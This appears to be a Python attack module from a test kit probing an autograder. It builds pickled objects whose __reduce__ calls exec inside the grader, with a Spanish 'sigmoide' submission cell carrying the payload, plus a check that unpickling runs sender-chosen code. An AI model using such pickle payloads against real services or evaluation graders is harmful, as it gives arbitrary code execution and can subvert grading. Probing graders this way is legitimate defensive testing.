"""Return an object that runs code of its own when it is unpickled.

Would gain: the judge's own process, when replies travel as pickles.
"""

import pickle

from ..kit import Attack


class Bomb:
    """Unpickling calls `list`, and might call anything."""

    def __reduce__(self):
        return list, ((4.0,),)


def naive() -> bool:
    """Unpickling ran a function of the sender's choice."""
    return pickle.loads(pickle.dumps(Bomb())) == [4.0]


CELL = """
import pickle

class Bomba:
    def __reduce__(self):
        return exec, ("raise SystemExit('en el juez')",)

def sigmoide(z):
    return [Bomba(), pickle.dumps(Bomba())]
"""
ATTACK = Attack({"sigmoide": CELL}, off=naive)
